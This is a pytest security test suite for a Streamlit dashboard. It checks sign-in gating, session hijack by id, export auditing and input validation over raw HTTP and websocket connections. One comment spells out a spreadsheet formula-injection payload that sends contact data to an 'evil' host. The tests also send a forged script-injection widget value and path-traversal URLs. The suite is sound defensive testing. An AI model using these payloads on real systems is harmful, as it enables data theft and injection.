"""Confidentiality against a hostile visitor, over real HTTP and websocket connections to the app
run by ``streamlit run`` on loopback (docs/security.md): an anonymous visitor with curl or a raw
client of Streamlit's protocol, and a signed-in person of a lower role, get no byte of the app
that their live sign-in does not allow.
"""

from __future__ import annotations

import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from google.protobuf import text_format
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from services.access import accounts
from services.app import web
from services.store import audit
from tests.browser import app_server, free_port, serving

PASSWORD = "un-mot-de-passe-solide-2026"


@pytest.fixture
def server(engine, tmp_path: Path) -> Iterator[str]:
    """The app on the test's store (no demo data), with an administrator and a marketing account."""
    for email, role in (("admin@cfai.fr", "admin"), ("marketing@cfai.fr", "marketing")):
        accounts.add_account(email=email, role=role, password=PASSWORD, actor="test")
    log = tmp_path / "app.log"
    with app_server(log, {"DEMO_DATA": "0"}) as port:
        yield f"127.0.0.1:{port}"
    # Whatever the test did, the server's log names nobody (item 16).
    assert "@cfai.fr" not in log.read_text()


def signed_in_cookie(host: str, email: str) -> str:
    """The signed session cookie a browser gets from the sign-in page for this account."""
    browser = requests.Session()
    page = browser.get(f"http://{host}{web.SIGN_IN_PATH}", timeout=30)
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    answer = browser.post(
        f"http://{host}{web.SIGN_IN_PATH}",
        data={"csrf": csrf, "email": email, "password": PASSWORD},
        allow_redirects=False,
        timeout=30,
    )
    assert answer.status_code == 303, answer.text
    return browser.cookies[web.COOKIE]


class Connection:
    """A raw client of Streamlit's protocol: the app's websocket, binary BackMsg and ForwardMsg."""

    def __init__(self, host: str, cookies: dict[str, str], session_id: str | None = None) -> None:
        headers = (
            {"Cookie": "; ".join(f"{name}={value}" for name, value in cookies.items())} if cookies else {}
        )
        protocols = ["streamlit", "xsrf-token-unused", session_id] if session_id else ["streamlit"]
        self.socket = connect(
            f"ws://{host}/_stcore/stream",
            additional_headers=headers,
            subprotocols=protocols,
            open_timeout=30,
            max_size=None,
        )
        self.session_id: str | None = None

    def send(self, message: BackMsg) -> None:
        self.socket.send(message.SerializeToString())

    def run(self, page: str = "") -> str:
        """Ask for a run of ``page`` and return everything the server sent until it finished."""
        message = BackMsg()
        message.rerun_script.query_string = ""
        message.rerun_script.page_name = page
        self.send(message)
        return self.read_until("script_finished")

    def read_until(self, kind: str) -> str:
        texts = []
        while True:
            received = ForwardMsg.FromString(self.socket.recv(timeout=60))
            if received.WhichOneof("type") == "new_session":
                self.session_id = received.new_session.initialize.session_id
            texts.append(text_format.MessageToString(received, as_utf8=True))
            if received.WhichOneof("type") == kind:
                return "\n".join(texts)

    def close(self) -> None:
        self.socket.close()


def _only_sent_to_sign_in(host: str, cookies: dict[str, str], session_id: str | None = None) -> str:
    """The address of the one message an app's connection without a live sign-in carries (the
    browser told to open the sign-in page); it then closes, with nothing of the app."""
    connection = Connection(host, cookies, session_id)
    message = ForwardMsg.FromString(connection.socket.recv(timeout=30))
    assert message.WhichOneof("type") == "auth_redirect", message
    with pytest.raises(ConnectionClosed) as closed:
        connection.socket.recv(timeout=30)
    assert closed.value.rcvd.code == 4401
    return message.auth_redirect.url


ANONYMOUS_PATHS = (
    "/",
    "/schedule",
    "/?sso=1",
    "/media/0123456789abcdef0123456789abcdef0123456789abcdef01234567.csv",
    "/media/0123456789abcdef0123456789abcdef0123456789abcdef01234567.csv?sso=1",
    "/_stcore/metrics",
    "/_stcore/upload_file/some-session/some-file",
    "/component/anything/index.html",
    "/app/static/anything.png",
)


def test_an_anonymous_visitor_gets_no_byte_of_the_app_whatever_its_cookies(server):
    for cookies in ({}, {web.SSO_COOKIE: "anything"}, {web.COOKIE: "forged.0000"}):
        for path in ANONYMOUS_PATHS:
            url = f"http://{server}{path}"
            answer = requests.get(url, cookies=cookies, allow_redirects=False, timeout=30)
            if path.startswith(("/", "/schedule")) and not path.startswith(web._APP_PREFIXES):
                # A page: to the sign-in page, which names the page to come back to.
                assert answer.status_code == 303, (path, cookies, answer.status_code)
                assert answer.headers["location"].startswith(f"{web.SIGN_IN_PATH}?next=")
            else:
                # The app's files and endpoints: nothing, not even a redirect naming them.
                assert (answer.status_code, answer.text) == (401, "Connexion requise."), (path, cookies)
                assert "location" not in answer.headers
            assert answer.headers["x-frame-options"] == "DENY"
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["referrer-policy"] == "no-referrer"
            assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        # An upload (Streamlit's PUT) is refused before its body is read into memory.
        put = requests.put(
            f"http://{server}/_stcore/upload_file/some-session/some-file",
            files={"file": ("x.csv", b"a" * 100_000)},
            cookies=cookies,
            timeout=30,
        )
        assert put.status_code == 401
    # The app's connection carries nothing but the way to the sign-in page (the browser's tab is
    # sent there), even to a session whose id a log gave away.
    for cookies in ({}, {web.SSO_COOKIE: "anything"}, {web.COOKIE: "forged.0000"}):
        assert _only_sent_to_sign_in(server, cookies).startswith(web.SIGN_IN_PATH)
    # What stays open: the health check, the sign-in page, and the host settings a browser reads
    # before it connects: the same for everyone, nothing of the app's data or of anyone.
    assert requests.get(f"http://{server}/_stcore/health", timeout=30).status_code == 200
    assert requests.get(f"http://{server}{web.SIGN_IN_PATH}", timeout=30).status_code == 200
    settings = requests.get(f"http://{server}/_stcore/host-config", timeout=30)
    assert settings.status_code == 200 and "allowedOrigins" in settings.json()


def test_a_session_found_again_by_its_id_runs_with_the_reconnecting_browser_s_own_sign_in(server):
    admin_cookies = {web.COOKIE: signed_in_cookie(server, "admin@cfai.fr")}
    admin = Connection(server, admin_cookies)
    shown = admin.run()
    assert "admin@cfai.fr" in shown and admin.session_id
    admin.close()
    # An anonymous visitor who found the session id (in an upload address, in a proxy log)
    # cannot even connect to it, whatever cookie it makes up.
    for cookies in ({}, {web.SSO_COOKIE: "anything"}):
        assert _only_sent_to_sign_in(server, cookies, admin.session_id) == web.SIGN_IN_PATH
    # A marketing person who reconnects to the administrator's session with their own cookie
    # gets their own sign-in, role and pages: nothing of the session's former state counts.
    marketing = {web.COOKIE: signed_in_cookie(server, "marketing@cfai.fr")}
    intruder = Connection(server, marketing, admin.session_id)
    shown = intruder.run()
    intruder.close()
    assert "marketing@cfai.fr" in shown
    assert "admin@cfai.fr" not in shown and "Journal d'audit" not in shown
    # Not even the session: its widgets' callbacks (a password change on the data page) would run
    # with the administrator's former state before the page checks who is there. A new one.
    assert intruder.session_id and intruder.session_id != admin.session_id
    # The administrator's own browser, reconnecting, finds its session again.
    back = Connection(server, admin_cookies, admin.session_id)
    assert "admin@cfai.fr" in back.run() and back.session_id == admin.session_id
    back.close()


def test_an_ended_sign_in_closes_the_open_connection_and_builds_no_export(server):
    cookie = signed_in_cookie(server, "admin@cfai.fr")
    tab = Connection(server, {web.COOKIE: cookie})
    shown = tab.run("audit")
    # The audit page's CSV button: a file the browser asks the server to build when clicked.
    file_id = re.search(r'deferred_file_id: "([0-9a-f]+)"', shown).group(1)

    # The deferred download asked for over the connection, with no click: built, recorded
    # server side, and served to this browser only.
    request = BackMsg()
    request.backend_operation_request.request_id = "1"
    request.backend_operation_request.session_id = tab.session_id
    request.backend_operation_request.deferred_file.file_id = file_id
    tab.send(request)
    response = tab.read_until("backend_operation_response")
    url = re.search(r'url: "([^"]+)"', response).group(1)
    assert audit.recent_events().query("action == 'export'")["actor"].tolist() == ["admin@cfai.fr"]
    served = requests.get(f"http://{server}{url}", cookies={web.COOKIE: cookie}, timeout=30)
    assert served.status_code == 200 and "admin@cfai.fr;Connexion" in served.content.decode("utf-8-sig")
    # Kept by no cache (the browser's, a proxy's): it would be handed out again after sign-out.
    assert served.headers["cache-control"] == "no-store"
    other = signed_in_cookie(server, "marketing@cfai.fr")
    assert requests.get(f"http://{server}{url}", cookies={web.COOKIE: other}, timeout=30).status_code == 404
    # Anonymous, whatever it adds (what the gate once let through): nothing.
    for cookies in ({}, {web.SSO_COOKIE: "anything"}):
        anonymous = requests.get(f"http://{server}{url}?sso=1", cookies=cookies, timeout=30)
        assert (anonymous.status_code, anonymous.text) == (401, "Connexion requise.")

    # The account is disabled (or signed out in another tab, or idle): the open tab's next
    # message closes its connection, the export not built; connecting again, the browser is
    # sent to the sign-in page; the file it was served is no longer served.
    accounts.disable_account(email="admin@cfai.fr", actor="test")
    tab.send(request)
    with pytest.raises(ConnectionClosed):
        tab.read_until("backend_operation_response")
    assert _only_sent_to_sign_in(server, {web.COOKIE: cookie}) == f"{web.SIGN_IN_PATH}?notice=expired"
    assert requests.get(f"http://{server}{url}", cookies={web.COOKIE: cookie}, timeout=30).status_code == 401
    assert len(audit.recent_events().query("action == 'export'")) == 1


def test_the_browser_is_told_to_offer_no_export_of_its_own(server):
    # The attack: st.dataframe's toolbar has a "Download as CSV" of its own, built in the browser:
    # no sign-in check, no audit record, and no formula neutralised. A young person who books
    # an interview on the public booking site under the name =HYPERLINK("https://evil/?"&F2&G2)
    # lands in the advisor's schedule table; its toolbar CSV, opened in a spreadsheet, sends
    # that row's e-mail and phone away at a click, and nobody's log says it was downloaded.
    # Every download must go through the app's export buttons (pages/common/downloads.py):
    # the server tells each browser to hide its own export controls.
    tab = Connection(server, {web.COOKIE: signed_in_cookie(server, "admin@cfai.fr")})
    shown = tab.run()
    tab.close()
    assert "disable_data_export: true" in shown


def test_under_a_base_url_the_app_s_files_still_need_a_sign_in(engine, tmp_path: Path):
    # Served under /rencontres (server.baseUrlPath, behind a proxy): an export's address ends in
    # a file name too, and must not pass as a front-end file.
    port = free_port()
    command = [sys.executable, "-m", "streamlit", "run", "dashboard.py", "--server.headless", "true"]
    command += ["--server.port", str(port), "--server.address", "127.0.0.1"]
    command += ["--server.baseUrlPath", "rencontres"]
    health = f"http://127.0.0.1:{port}/rencontres/_stcore/health"
    with serving(command, health, tmp_path / "app.log", {"DEMO_DATA": "0"}):
        host = f"127.0.0.1:{port}"
        for path in ("/rencontres/media/0123abcd.csv", "/rencontres/_stcore/metrics", "/rencontres/"):
            answer = requests.get(f"http://{host}{path}", allow_redirects=False, timeout=30)
            assert answer.status_code in {303, 401}, path
        for path in ("/rencontres/static/../media/0123abcd.csv", "/rencontres/static/%2e%2e/media/x.csv"):
            answer = requests.get(f"http://{host}{path}", allow_redirects=False, timeout=30)
            assert answer.status_code in {303, 401, 404}, path
            assert "text/csv" not in answer.headers.get("content-type", "")


def test_a_language_no_page_offers_is_not_taken_from_the_connection(server):
    # The attack: the language selector's value as the raw connection sends it (any string, not
    # one of its options). The dashboard read it before the selector checked it: it went into
    # the <script> that remembers the language (run with JavaScript allowed), and every page
    # failed on it. The selector's options only: French, or the language already chosen.
    from streamlit.proto.WidgetStates_pb2 import WidgetStates

    tab = Connection(server, {web.COOKIE: signed_in_cookie(server, "marketing@cfai.fr")})
    shown = tab.run()
    widget = re.search(r'id: "(\$\$ID-[0-9a-f]+-language)"', shown).group(1)
    forged = WidgetStates()
    state = forged.widgets.add()
    state.id, state.string_value = widget, "fr'; document.title='pwned'; '"
    message = BackMsg()
    message.rerun_script.page_name = ""
    message.rerun_script.widget_states.CopyFrom(forged)
    tab.send(message)
    shown = tab.read_until("script_finished")
    tab.close()
    assert "pwned" not in shown
    assert "exception {" not in shown
    assert "Connecté : marketing@cfai.fr" in shown  # the page, in French
